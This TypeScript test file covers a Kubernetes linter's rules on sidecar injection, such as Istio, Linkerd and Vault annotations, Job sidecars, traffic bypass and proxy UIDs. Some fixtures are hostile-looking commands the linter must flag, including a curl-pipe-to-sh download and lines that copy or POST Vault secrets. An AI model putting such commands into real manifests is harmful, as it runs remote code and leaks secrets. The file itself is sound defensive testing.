import { describe, expect, it } from 'vitest';
import { see } from '../analyse';
import { fixed } from '../fixing';
import { IMAGE, podOf } from '../manifests';

const indent = (lines: string): string => lines.trimEnd().replace(/^(?=.)/gm, '  ');

/** A pod of one container in the namespace `shop`. */
function pod(metadata: string, { spec = '', container = '', namespace = '' } = {}): string {
  const text = podOf(
    `${spec}containers:\n- name: web\n  image: ${IMAGE}\n${container ? `${indent(container)}\n` : ''}`,
    `name: web\nnamespace: shop\n${metadata}`,
  );
  return namespace === ''
    ? text
    : `${text}---
apiVersion: v1
kind: Namespace
metadata:
  name: shop
${indent(namespace)}
`;
}
const job = (metadata: string, command = 'report', kind = 'Job'): string => {
  const template = `template:
  metadata: ${metadata}
  spec:
    restartPolicy: Never
    containers: [{ name: web, image: "${IMAGE}", command: ${JSON.stringify(['sh', '-c', command])} }]
`;
  const spec = kind === 'Job' ? template : `jobTemplate:\n  spec:\n${indent(indent(template))}`;
  return `apiVersion: batch/v1
kind: ${kind}
metadata: { name: web, namespace: shop }
spec:
${indent(spec)}
`;
};
const label = (key: string, value: string): string => `labels: { ${key}: "${value}" }`;
const annotation = (key: string, value: string): string =>
  `annotations: { team: shop, ${key}: ${JSON.stringify(value)} }`;
const found = (text: string, rule: string): string[] =>
  see(text, rule).map(({ severity, text: words }) => `${severity} ${words}`);
const ISTIO_ON = { namespace: label('istio-injection', 'enabled') };

describe('injection-requested', () => {
  it.each([
    ['Istio', label('sidecar.istio.io/inject', 'true'), 'istio-proxy'],
    ['Istio by revision', label('istio.io/rev', 'stable'), 'istio-proxy'],
    ['Linkerd', annotation('linkerd.io/inject', 'enabled'), 'linkerd-proxy'],
    ['Linkerd as ingress', annotation('linkerd.io/inject', 'ingress'), 'linkerd-proxy'],
    ['Vault', annotation('vault.hashicorp.com/agent-inject', 'true'), 'vault-agent'],
    ['Dapr', annotation('dapr.io/enabled', 'true'), 'daprd'],
    ['OpenTelemetry', annotation('sidecar.opentelemetry.io/inject', 'my-collector'), 'otc-container'],
    ['Datadog', label('agent.datadoghq.com/sidecar', 'fargate'), 'datadog-agent-injected'],
    ['Consul', annotation('consul.hashicorp.com/connect-inject', 'true'), 'consul-dataplane'],
    ['Kuma', label('kuma.io/sidecar-injection', 'enabled'), 'kuma-sidecar'],
    [
      'OpenTelemetry for Java',
      annotation('instrumentation.opentelemetry.io/inject-java', 'monitoring/all'),
      'opentelemetry-auto-instrumentation-java',
    ],
    [
      'Datadog for Python',
      `labels: { admission.datadoghq.com/enabled: "true" }\n${annotation('admission.datadoghq.com/python-lib.version', 'v2')}`,
      'datadog-lib-python-init',
    ],
  ])('%s', (_, metadata, adds) => {
    const [finding, ...others] = see(pod(metadata), 'injection-requested');
    expect(others).toEqual([]);
    expect(finding?.severity).toBe('information');
    expect(finding?.message).toContain(` adds "${adds}" to this pod.`);
    // What the cluster printed has it already.
    const printed = pod(metadata, { spec: `initContainers: [{ name: ${adds}, image: x, restartPolicy: Always }]\n` });
    expect(see(printed, 'injection-requested')).toEqual([]);
  });

  it.each([
    ['it is off', label('sidecar.istio.io/inject', 'false')],
    ['it is off', annotation('sidecar.opentelemetry.io/inject', 'false')],
    ['only the annotation asks Istio, whose webhook selects by labels', annotation('sidecar.istio.io/inject', 'true')],
    ['no injector is asked', label('app', 'web')],
    ['Linkerd does not know the word', annotation('linkerd.io/inject', 'true')],
    ['Datadog is only allowed', label('admission.datadoghq.com/enabled', 'true')],
    [
      'Datadog is off',
      `labels: { admission.datadoghq.com/enabled: "false" }\n${annotation('admission.datadoghq.com/js-lib.version', 'v5')}`,
    ],
  ])('says nothing where %s', (_, metadata) => {
    expect(found(pod(metadata), 'injection-requested')).toEqual([]);
  });

  it('hears the annotation where the namespace has Istio on', () => {
    expect(found(pod(annotation('sidecar.istio.io/inject', 'true'), ISTIO_ON), 'injection-requested')).toEqual([
      'information "true"',
      'information "enabled"',
    ]);
  });

  it('knows that Istio adds nothing where the namespace has it off, or on the network of the node', () => {
    const asks = label('sidecar.istio.io/inject', 'true');
    const off = { namespace: label('istio-injection', 'disabled') };
    expect(found(pod(asks, off), 'injection-requested')).toEqual([]);
    expect(found(pod(asks, { spec: 'hostNetwork: true\n' }), 'injection-requested')).toEqual([]);
  });

  it('looks at the template of a workload, as webhooks do', () => {
    const deployment = (own: string, template: string, apiVersion = 'apps/v1'): string =>
      `apiVersion: ${apiVersion}
kind: Deployment
metadata: { name: web, ${own} }
spec:
  template:
    metadata: { ${template} }
    spec: { containers: [{ name: web, image: "${IMAGE}" }] }
`;
    const asks = label('sidecar.istio.io/inject', 'true');
    const [hint, ...others] = see(deployment(asks, 'labels: {}'), 'injection-requested');
    expect(others).toEqual([]);
    expect(hint?.severity).toBe('hint');
    expect(hint?.message).toContain('reads "sidecar.istio.io/inject" only on the pod');
    expect(found(deployment(asks, 'labels: {}', 'example.com/v1'), 'injection-requested')).toEqual([]);
    expect(found(deployment(asks, label('sidecar.istio.io/inject', 'false')), 'injection-requested')).toEqual([]);
    expect(found(deployment('labels: {}', asks), 'injection-requested')).toEqual(['information "true"']);
  });
});

describe('injection-into-job', () => {
  const LINKERD = '{ annotations: { linkerd.io/inject: enabled } }';
  it.each([
    ['a Job', job(LINKERD), 1],
    ['a CronJob', job(LINKERD, 'report', 'CronJob'), 1],
    ['a Vault agent', job('{ annotations: { vault.hashicorp.com/agent-inject: "true" } }'), 1],
    [
      'native by its own word',
      job('{ annotations: { linkerd.io/inject: enabled, config.linkerd.io/proxy-enable-native-sidecar: "true" } }'),
      0,
    ],
    [
      'native by its own word',
      job('{ labels: { sidecar.istio.io/inject: "true" }, annotations: { sidecar.istio.io/nativeSidecar: "true" } }'),
      0,
    ],
    [
      'only at the start',
      job(
        '{ annotations: { vault.hashicorp.com/agent-inject: "true", vault.hashicorp.com/agent-pre-populate-only: "true" } }',
      ),
      0,
    ],
    [
      'ended by the app',
      job(LINKERD, 'report; curl -X POST http://localhost:4191/shutdown || linkerd-await --shutdown -- true'),
      0,
    ],
    [
      'ended by the app',
      job('{ labels: { sidecar.istio.io/inject: "true" } }', 'report; curl -X POST localhost:15020/quitquitquit'),
      0,
    ],
    [
      'native by an older name',
      job(
        '{ annotations: { linkerd.io/inject: enabled, config.beta.linkerd.io/proxy-enable-native-sidecar: "true" } }',
      ),
      0,
    ],
    [
      'native by its own word',
      job(
        '{ annotations: { consul.hashicorp.com/connect-inject: "true", consul.hashicorp.com/enable-consul-dataplane-as-sidecar: "true" } }',
      ),
      0,
    ],
    [
      'classic by its own word',
      job('{ labels: { sidecar.istio.io/inject: "true" }, annotations: { sidecar.istio.io/nativeSidecar: "false" } }'),
      1,
    ],
    [
      'ended by the app',
      job(
        '{ annotations: { vault.hashicorp.com/agent-inject: "true", vault.hashicorp.com/agent-enable-quit: "true" } }',
        'report; curl -X POST http://127.0.0.1:8200/agent/v1/quit',
      ),
      0,
    ],
    [
      'a container that only starts',
      job('{ annotations: { instrumentation.opentelemetry.io/inject-java: "true" } }'),
      0,
    ],
    ['off', job('{ annotations: { linkerd.io/inject: disabled } }'), 0],
    ['no Job', pod(annotation('linkerd.io/inject', 'enabled')), 0],
  ])('%s', (_, text, count) => {
    expect(see(text, 'injection-into-job').map(({ severity }) => severity)).toEqual(count ? ['warning'] : []);
  });

  it('is information where the sidecar is native by default', () => {
    const istio = job('{ labels: { sidecar.istio.io/inject: "true" } }');
    const at = (kubernetesMinor: number): string[] =>
      see(istio, 'injection-into-job', { kubernetesMinor }).map(({ severity }) => severity);
    expect(at(32)).toEqual(['warning']);
    expect(at(33)).toEqual(['information']);
  });

  it('hears what the namespace tells Linkerd', () => {
    const namespace = (native: string): string =>
      `---
apiVersion: v1
kind: Namespace
metadata: { name: shop, annotations: { linkerd.io/inject: enabled, config.linkerd.io/proxy-enable-native-sidecar: "${native}" } }
`;
    expect(see(job('{}') + namespace('true'), 'injection-into-job')).toEqual([]);
    expect(see(job('{}') + namespace('false'), 'injection-into-job')).toHaveLength(1);
  });

  it('points at the name where only the namespace asks', () => {
    const namespace = `---
apiVersion: v1
kind: Namespace
metadata: { name: shop, ${label('istio-injection', 'enabled')} }
`;
    const generated = job('{}').replace('name: web', 'generateName: web-');
    expect(found(generated + namespace, 'injection-into-job')).toEqual(['information web-']);
  });

  it('knows what the namespace asks for', () => {
    const namespace = `---
apiVersion: v1
kind: Namespace
metadata: { name: shop, ${label('istio-injection', 'enabled')} }
`;
    const [finding] = see(job('{}') + namespace, 'injection-into-job');
    expect(finding?.message).toContain('(because of the label "istio-injection" of the namespace "shop")');
  });
});

describe('injection-opted-out', () => {
  const off = label('sidecar.istio.io/inject', 'false');
  it('is worse where the namespace has it on', () => {
    expect(found(pod(off), 'injection-opted-out')).toEqual(['information "false"']);
    expect(found(pod(off, ISTIO_ON), 'injection-opted-out')).toEqual(['warning "false"']);
    expect(found(pod(annotation('sidecar.istio.io/inject', 'false'), ISTIO_ON), 'injection-opted-out')).toEqual([
      'warning "false"',
    ]);
    expect(found(pod(annotation('linkerd.io/inject', 'disabled'), ISTIO_ON), 'injection-opted-out')).toEqual([
      'information "disabled"',
    ]);
  });

  it('is nothing for an injector that waits to be asked', () => {
    expect(found(pod(annotation('vault.hashicorp.com/agent-inject', 'false')), 'injection-opted-out')).toEqual([]);
    expect(found(pod(annotation('dapr.io/enabled', 'false')), 'injection-opted-out')).toEqual([]);
    const otel = annotation('sidecar.opentelemetry.io/inject', 'false');
    expect(found(pod(otel), 'injection-opted-out')).toEqual([]);
    const on = { namespace: annotation('sidecar.opentelemetry.io/inject', 'true') };
    expect(found(pod(otel, on), 'injection-opted-out')).toEqual(['warning "false"']);
  });

  it('knows the label of Datadog', () => {
    const off = label('admission.datadoghq.com/enabled', 'false');
    expect(found(pod(off), 'injection-opted-out')).toEqual(['information "false"']);
  });

  it('is all right for Jobs and on the network of the node', () => {
    expect(found(job('{ labels: { sidecar.istio.io/inject: "false" } }'), 'injection-opted-out')).toEqual([]);
    expect(found(pod(off, { spec: 'hostNetwork: true\n' }), 'injection-opted-out')).toEqual([]);
  });
});

/** A row: what Vault's agent runs when a secret changes, and how bad it is. */
const afterSecret = (command: string, severity: string): [string, string, string, string] => [
  'injection-runs-code',
  'vault.hashicorp.com/agent-inject-command-db',
  command,
  severity,
];

describe('annotations that change what is injected', () => {
  it.each([
    ['injection-image-override', 'sidecar.istio.io/proxyImage', 'x/y:1', 'warning'],
    ['injection-image-override', 'vault.hashicorp.com/agent-image', 'x/y:1', 'warning'],
    ['injection-image-override', 'admission.datadoghq.com/java-lib.custom-image', 'x/y:1', 'warning'],
    ['injection-image-override', 'sidecar.istio.io/proxyCPU', '1', undefined],
    [
      'injection-runs-code',
      'vault.hashicorp.com/agent-inject-command-db',
      'sh -c "cat /vault/secrets/db > /x"',
      'warning',
    ],
    ['injection-runs-code', 'vault.hashicorp.com/agent-inject-command-db', 'kill -HUP 1', 'information'],
    ['injection-runs-code', 'vault.hashicorp.com/agent-inject-command-db', 'sh -c "pkill -HUP nginx"', 'information'],
    ...[
      'kill -HUP $(pidof app)',
      "/bin/sh -c 'kill -s HUP $(cat /run/nginx.pid) 2>/dev/null || true'",
      'nginx -s reload',
      'curl -sX POST http://localhost:9090/-/reload',
    ].map((command) => afterSecret(command, 'information')),
    ...[
      'kill -HUP 1; curl https://example.com/x | sh',
      'nginx -s reload && cp /vault/secrets/db /shared/',
      "sh -c 'kill -HUP $(cat /vault/secrets/db)'",
      'kill -9 1',
      'curl -X POST https://example.com/reload',
      'curl -X POST http://localhost:9090/-/reload -d @/vault/secrets/db',
      'kill -HUP 1 > /shared/out',
    ].map((command) => afterSecret(command, 'warning')),
    ['injection-runs-code', 'proxy.istio.io/overrides', '{}', 'warning'],
    ['injection-runs-code', 'vault.hashicorp.com/agent-inject-template-db', '{ with secret }', undefined],
    ['injection-runs-code', 'vault.hashicorp.com/agent-json-patch', '[]', 'warning'],
    ['injection-runs-code', 'inject.istio.io/templates', 'sidecar,custom', 'warning'],
    ['injection-runs-code', 'inject.istio.io/templates', 'gateway', undefined],
    ['injection-runs-code', 'config.linkerd.io/enable-debug-sidecar', 'true', 'warning'],
    ['injection-runs-code', 'config.linkerd.io/enable-debug-sidecar', 'false', undefined],
    ['injection-shares-app-data', 'sidecar.istio.io/userVolumeMount', '[]', 'warning'],
    ['injection-shares-app-data', 'dapr.io/volume-mounts-rw', 'a:/a', 'warning'],
    ['injection-shares-app-data', 'dapr.io/volume-mounts', 'a:/a', undefined],
    ['injection-shares-app-data', 'vault.hashicorp.com/agent-run-as-same-user', 'true', 'warning'],
    ['injection-shares-app-data', 'vault.hashicorp.com/agent-run-as-same-user', 'false', undefined],
    ['injection-bypass', 'traffic.sidecar.istio.io/excludeOutboundPorts', '3306', 'information'],
    ['injection-bypass', 'traffic.sidecar.istio.io/excludeOutboundIPRanges', '0.0.0.0/0', 'warning'],
    ['injection-bypass', 'traffic.sidecar.istio.io/excludeOutboundIPRanges', '10.0.0.0/8', 'information'],
    ['injection-bypass', 'traffic.sidecar.istio.io/excludeInboundPorts', '', undefined],
    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundIPRanges', '', 'warning'],
    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundIPRanges', '*', undefined],
    // These go through the proxy in addition to what does anyhow.
    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundPorts', '', undefined],
    ['injection-bypass', 'traffic.sidecar.istio.io/includeOutboundPorts', '4317', undefined],
    ['injection-bypass', 'consul.hashicorp.com/transparent-proxy', 'false', 'warning'],
    ['injection-bypass', 'sidecar.istio.io/interceptionMode', 'NONE', 'warning'],
    ['injection-bypass', 'sidecar.istio.io/interceptionMode', 'TPROXY', undefined],
    ['injection-bypass', 'config.linkerd.io/skip-outbound-ports', '4567,4568', 'information'],
    ['injection-bypass', 'config.linkerd.io/skip-inbound-ports', '1-65535', 'warning'],
    ['injection-bypass', 'traffic.kuma.io/exclude-outbound-ports', '5432', 'information'],
    ['injection-bypass', 'consul.hashicorp.com/transparent-proxy-exclude-outbound-cidrs', '0.0.0.0/0', 'warning'],
  ])('%s: %s %s', (rule, key, value, severity) => {
    expect(found(pod(annotation(key, value)), rule)).toEqual(severity ? [`${severity} ${JSON.stringify(value)}`] : []);
  });

  it('are one finding of a rule, at the worst of them', () => {
    const text = pod(
      'annotations:\n  traffic.sidecar.istio.io/excludeOutboundPorts: "3306"\n  sidecar.istio.io/interceptionMode: NONE',
    );
    expect(found(text, 'injection-bypass')).toEqual(['warning NONE']);
  });

  it('count for less in a pod that the cluster printed, where the injector writes them itself', () => {
    const printed = (status: string, key: string): string => pod(`annotations:\n  ${status}: injected\n  ${key}: "{}"`);
    const overrides = printed('sidecar.istio.io/status', 'proxy.istio.io/overrides');
    expect(found(overrides, 'injection-runs-code')).toEqual(['information "{}"']);
    const image = printed('vault.hashicorp.com/agent-inject-status', 'vault.hashicorp.com/agent-image');
    expect(found(image, 'injection-image-override')).toEqual(['information "{}"']);
  });

  it('are nothing in the gateway of Istio, as its documentation has it', () => {
    const gateway = `apiVersion: apps/v1
kind: Deployment
metadata: { name: ingress, namespace: shop }
spec:
  selector: { matchLabels: { istio: ingress } }
  template:
    metadata:
      annotations: { inject.istio.io/templates: gateway }
      labels: { istio: ingress, sidecar.istio.io/inject: "true" }
    spec:
      containers: [{ name: istio-proxy, image: auto }]
`;
    const rules = see(gateway).filter(({ rule }) => /^injection|^impersonates/.test(rule));
    expect(rules).toEqual([]);
  });

  it('count for less where the image is from an allowed registry', () => {
    const text = pod(annotation('sidecar.istio.io/proxyImage', 'registry.example.com/proxyv2:1'));
    const allowed = see(text, 'injection-image-override', { allowedRegistries: ['registry.example.com'] });
    expect(allowed.map(({ severity }) => severity)).toEqual(['information']);
  });
});

describe('app-runs-as-proxy-uid', () => {
  const as = (user: number): { container: string } => ({ container: `securityContext: { runAsUser: ${user} }` });
  it.each([
    ['Istio', label('sidecar.istio.io/inject', 'true'), as(1337), ['warning 1337']],
    ['Linkerd', annotation('linkerd.io/inject', 'enabled'), as(2102), ['warning 2102']],
    ['by the namespace', '', { ...as(1337), ...ISTIO_ON }, ['warning 1337']],
    [
      'by the pod',
      label('sidecar.istio.io/inject', 'true'),
      { spec: 'securityContext: { runAsUser: 1337 }\n' },
      ['warning 1337'],
    ],
    ['another mesh', annotation('linkerd.io/inject', 'enabled'), as(1337), []],
    ['no mesh', '', as(1337), []],
  ])('%s', (_, metadata, options, expected) => {
    expect(found(pod(metadata, options), 'app-runs-as-proxy-uid')).toEqual(expected);
  });

  it('is not about the proxy itself', () => {
    const proxy = `initContainers: [{ name: istio-proxy, image: docker.io/istio/proxyv2:1, restartPolicy: Always, securityContext: { runAsUser: 1337 } }]\n`;
    expect(found(pod('', { spec: proxy }), 'app-runs-as-proxy-uid')).toEqual([]);
    expect(found(pod('', { spec: proxy, ...as(1337) }), 'app-runs-as-proxy-uid')).toEqual(['warning 1337']);
  });
});

describe('native-sidecar-unsupported', () => {
  it.each([
    [27, ['error Always']],
    [28, ['warning Always']],
    [29, []],
  ])('in Kubernetes 1.%i', (kubernetesMinor, expected) => {
    const text = pod('', { spec: `initContainers: [{ name: a, image: "${IMAGE}", restartPolicy: Always }]\n` });
    const seen = see(text, 'native-sidecar-unsupported', { kubernetesMinor });
    expect(seen.map(({ severity, text: words }) => `${severity} ${words}`)).toEqual(expected);
  });
});

describe('native-sidecar-order', () => {
  const PROXY = 'image: docker.io/istio/proxyv2:1, restartPolicy: Always';
  const init = (...items: string[]): { spec: string } => ({
    spec: `initContainers:\n${items.map((item) => `- { ${item} }\n`).join('')}`,
  });
  it.each([
    ['a proxy behind', init('name: migrate, image: x', `name: istio-proxy, ${PROXY}`), ['hint migrate']],
    ['a proxy before', init(`name: istio-proxy, ${PROXY}`, 'name: migrate, image: x'), []],
    [
      "the mesh's own init",
      init('name: istio-init, image: docker.io/istio/proxyv2:1', `name: istio-proxy, ${PROXY}`),
      [],
    ],
    [
      'a sidecar that only reads',
      init('name: migrate, image: x', 'name: fluent-bit, image: docker.io/fluent/fluent-bit:3, restartPolicy: Always'),
      [],
    ],
    ['an unknown sidecar', init('name: migrate, image: x', 'name: cache, image: y, restartPolicy: Always'), []],
  ])('%s', (_, options, expected) => {
    expect(found(pod('', options), 'native-sidecar-order')).toEqual(expected);
  });

  it('moves the sidecar up with its comments', () => {
    const text = pod('', {
      spec: `initContainers:
# first
- name: migrate # ours
  image: x
# the mesh
- name: istio-proxy
  image: docker.io/istio/proxyv2:1 # theirs
  restartPolicy: Always
`,
    });
    const after = fixed(text, 'native-sidecar-order') ?? '';
    expect(after).toContain(
      `  initContainers:
  # the mesh
  - name: istio-proxy
    image: docker.io/istio/proxyv2:1 # theirs
    restartPolicy: Always
  # first
  - name: migrate # ours
`,
    );
    expect(found(after, 'native-sidecar-order')).toEqual([]);
  });
});
